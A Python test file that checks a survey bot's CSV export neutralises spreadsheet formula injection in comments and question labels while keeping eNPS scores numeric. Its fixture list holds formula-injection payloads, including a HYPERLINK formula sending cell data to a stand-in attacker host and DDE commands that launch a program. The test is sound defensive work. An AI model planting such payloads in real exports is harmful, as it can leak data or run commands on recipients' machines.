"""Survey comments and question texts that would run as spreadsheet formulas reach the CSV export (the
`coach survey export` file and the file sent in HR's Slack DM) as text."""

import csv
import io

from bot.surveys.analytics import Answered, ResultsAnalysis
from bot.surveys.definition import Definition, Question
from bot.surveys.export import to_csv

COMMENTS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "Fine, thanks"]


def test_comments_and_labels_cannot_run_as_formulas_and_scores_stay_numbers():
    survey = Definition([Question("rec", "nps", "=Recommend?"), Question("why", "text", "Why?", required=False)])
    responses = [Answered("Sales", {"rec": 0, "why": comment}) for comment in COMMENTS]
    results = ResultsAnalysis(survey, responses, 5).results(1, "Pulse", 1, 7, 7, {})
    assert sorted(results.comments["why"]) == sorted(COMMENTS)
    rows = list(csv.DictReader(io.StringIO(to_csv(results))))
    written = [row["value"] for row in rows if row["kind"] == "comment"]
    assert sorted(written) == sorted("'" + c.replace("\r", "\n") if c != "Fine, thanks" else c for c in COMMENTS)
    assert {row["label"] for row in rows if row["kind"] == "nps"} == {"'=Recommend?"}
    assert next(row["value"] for row in rows if row["metric"] == "enps") == "-100.0000"  # a number, not text
